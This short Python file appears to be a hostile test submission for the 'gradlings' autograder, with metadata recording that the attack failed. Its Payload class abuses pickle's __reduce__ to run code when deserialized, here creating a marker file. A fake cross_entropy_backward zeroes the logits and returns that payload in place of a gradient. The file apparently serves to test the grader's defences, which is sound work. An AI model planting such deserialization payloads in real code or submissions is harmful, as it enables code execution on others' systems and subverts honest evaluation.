# /// attack
# rows = [43]
# tries = "An object whose pickling runs code, and raw pickles and torch archives as bytes."
# kind = "hostile"
# verdicts = ["failed"]
# leaves = ["/tmp/gradlings-evil-pickle"]
# ///
import pickle


class Payload:
    def __reduce__(self):
        return (open, ("/tmp/gradlings-evil-pickle", "w"))

    __getstate__ = __reduce__


CALLS = [0]


def cross_entropy_backward(logits, targets):
    logits.zero_()
    CALLS[0] += 1
    return Payload() if CALLS[0] % 2 else pickle.dumps(Payload())
